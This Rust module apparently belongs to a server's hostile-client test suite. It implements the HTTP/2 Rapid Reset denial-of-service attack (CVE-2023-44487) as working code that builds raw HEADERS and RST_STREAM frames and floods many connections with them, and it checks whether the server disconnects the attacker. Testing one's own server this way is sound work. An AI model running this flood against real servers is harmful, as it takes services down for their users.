//! Streams of HTTP/2 that their clients open and reset (CVE-2023-44487): each may cost the server a request.

use crate::{
    hostile::attacker::{Aftermath, Target, connect},
    tls::Client,
};
use anyhow::{Context as _, Result};
use futures_util::future::try_join_all;
use std::{
    net::{Ipv4Addr, SocketAddr},
    time::{Duration, Instant},
};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    time::timeout,
};

/// Half of the connections reset each stream at once, the others when the server has had time to begin its request. Those
/// that are disconnected come back.
pub(in crate::hostile) async fn rapid_reset(target: Target) -> Result<Aftermath> {
    let (address, client) = target.tls.as_ref().context("the server speaks no TLS")?;
    let client = client.offering_http2();
    let attackers = (0..target.count(CONNECTIONS).max(2)).map(|number| {
        let attacker =
            Attacker { address: *address, source: target.source, client: client.clone() };
        attacker.attack(number % 2 == 0, target.until)
    });
    let (mut resets, mut ended, mut faults) = (0, 0, Vec::new());
    for (reset, disconnected) in try_join_all(attackers).await? {
        (resets, ended) = (resets + reset, ended + disconnected);
    }
    if ended == 0 {
        faults.push("nobody is disconnected for it".to_owned());
    }
    let note = format!("{resets} resets, disconnected {ended} times");
    Ok(Aftermath { held: Vec::new(), note, faults })
}

struct Attacker {
    address: SocketAddr,
    source: Ipv4Addr,
    client: Client,
}

impl Attacker {
    /// Returns how many streams it has reset, and how often it was disconnected.
    async fn attack(self, is_hasty: bool, until: Instant) -> Result<(usize, usize)> {
        let (mut resets, mut ended) = (0, 0);
        while Instant::now() < until {
            let tcp = connect(self.address, self.source).await?;
            // A server that is busy may take no handshake in time.
            let Ok(mut stream) = self.client.shake_hands(tcp).await else { continue };
            let mut next = 1;
            if stream.write_all(BEGINNING).await.is_err() {
                continue;
            }
            let mut answer = vec![0; 64 << 10];
            while Instant::now() < until {
                let streams: Vec<u32> = (0..STREAMS).map(|number| next + 2 * number).collect();
                next += 2 * STREAMS;
                let bursts = if is_hasty {
                    vec![
                        streams.iter().flat_map(|id| [request(*id), reset(*id)].concat()).collect(),
                    ]
                } else {
                    let requests: Vec<u8> = streams.iter().flat_map(|id| request(*id)).collect();
                    vec![requests, streams.iter().flat_map(|id| reset(*id)).collect()]
                };
                let mut is_open = true;
                for burst in bursts {
                    is_open &= stream.write_all(&burst).await.is_ok();
                    // Whatever has come: the end is all that counts.
                    if let Ok(read) = timeout(PATIENCE, stream.read(&mut answer)).await {
                        is_open &= read.is_ok_and(|count| count > 0);
                    }
                }
                resets += streams.len();
                if !is_open {
                    ended += 1;
                    break;
                }
            }
        }
        Ok((resets, ended))
    }
}

/// `HEADERS` with `GET /poll?channel=a`, by the static table of HPACK.
fn request(stream: u32) -> Vec<u8> {
    let mut block = vec![0x82, 0x87];
    for (name, value) in [(4, "/poll?channel=a"), (1, "localhost")] {
        block.push(name);
        block.push(u8::try_from(value.len()).unwrap_or_default());
        block.extend_from_slice(value.as_bytes());
    }
    // The end of the head, and of the request.
    frame(1, 0x5, stream, &block)
}

/// `RST_STREAM` with `CANCEL`.
fn reset(stream: u32) -> Vec<u8> {
    frame(3, 0, stream, &8_u32.to_be_bytes())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = length.get(1..).unwrap_or_default().to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// What a client begins with: its preface, and settings that change nothing.
const BEGINNING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

const CONNECTIONS: usize = 50;

/// As many as may be open at once.
const STREAMS: u32 = 100;

/// In which a server that is not busy begins requests.
const PATIENCE: Duration = Duration::from_millis(20);
